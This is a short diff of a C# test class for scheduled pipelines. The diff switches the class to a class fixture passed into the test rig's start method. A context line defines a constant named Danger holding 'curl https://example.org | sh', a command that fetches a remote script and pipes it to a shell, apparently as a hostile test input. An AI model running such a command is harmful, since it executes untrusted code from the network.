@@ -11,13 +11,13 @@ using GitRemote = Caur.Pipelines.Git.GitRemote;
 
 namespace Caur.Tests.Pipelines.Schedules;
 
-public sealed class OnSchedulePipelineTests : IAsyncLifetime
+public sealed class OnSchedulePipelineTests(ScheduleStart start) : IAsyncLifetime, IClassFixture<ScheduleStart>
 {
     private const string Danger = "curl https://example.org | sh\n";
 
     private ScheduleRig _rig = null!;
 
-    public async ValueTask InitializeAsync() => _rig = await ScheduleRig.StartAsync();
+    public async ValueTask InitializeAsync() => _rig = await ScheduleRig.StartAsync(start);
 
     public ValueTask DisposeAsync() => _rig.DisposeAsync();
 
